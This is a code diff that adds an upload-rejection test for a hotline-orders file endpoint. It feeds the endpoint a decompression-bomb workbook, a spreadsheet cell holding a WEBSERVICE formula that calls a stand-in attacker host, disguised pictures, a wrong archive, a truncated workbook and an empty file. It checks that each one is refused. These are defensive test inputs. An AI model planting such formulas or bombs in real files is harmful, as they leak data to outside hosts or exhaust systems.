@@ -2,7 +2,9 @@ import { beforeAll, describe, expect, it } from 'vitest';
 import { as } from '../../../test/as';
 import { csv } from '../../../test/importing';
 import { type Cast, cast, step } from '../../../test/mainJob';
+import { aJpeg } from '../../../test/photoFiles';
 import { useHouse } from '../../../test/testHouse';
+import { anArchive, aWorkbook, headRow, textCell } from '../../../test/workbooks';
 import { newId } from '../../platform/ids';
 import { readWholeTable } from '../../platform/tables/index';
 
@@ -81,6 +83,29 @@ describe('orders of the 12345 hotline', () => {
       light: 'green',
     });
   });
+  it('come from no bomb, no wrong file and no formula without its value; nothing of such a file is taken', async () => {
+    const xlsx = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
+    const put = (bytes: Buffer, type = xlsx) => people.acceptor.put('/api/hotline-orders/file', bytes, type);
+    const before = (await people.acceptor.get('/api/hotline-orders')).body.counts;
+    const bomb = aWorkbook({
+      rows: `${headRow(...head.split(','))}${'<row><c t="inlineStr"><is><t>x</t></is></c></row>'.repeat(3_000_000)}`,
+    });
+    expect(bomb.length).toBeLessThan(4 * 1024 * 1024);
+    const row = (...cells: string[]) => `${headRow(...head.split(','))}<row r="2">${cells.join('')}</row>`;
+    const cells = (number: string) => [number, ...['井盖缺失', '2026-11-17 09:00'].map(textCell)];
+    const formula = aWorkbook({ rows: row(...cells('<c><f>WEBSERVICE("http://evil.example")</f></c>')) });
+    for (const [name, answer] of [
+      ['a bomb', await put(bomb)],
+      ['a formula', await put(formula)],
+      ['a picture', await put(await aJpeg())],
+      ['a picture that says it is a table', await put(await aJpeg(), 'text/csv')],
+      ['an archive of something else', await put(anArchive({ mimetype: 'application/epub+zip' }))],
+      ['half a workbook', await put(aWorkbook({ rows: row(...cells(textCell('X1'))) }).subarray(0, 900))],
+      ['nothing', await put(Buffer.alloc(0))],
+    ] as const)
+      expect([name, answer.status >= 400 && answer.status < 500], `${name}: ${answer.status}`).toEqual([name, true]);
+    expect((await people.acceptor.get('/api/hotline-orders')).body.counts).toEqual(before);
+  }, 60_000);
   it('go back once with the answer’s own words, as a file that can be had again', async () => {
     const order = anOrder();
     const { caseId } = (await bring(order)).body.orders[0];
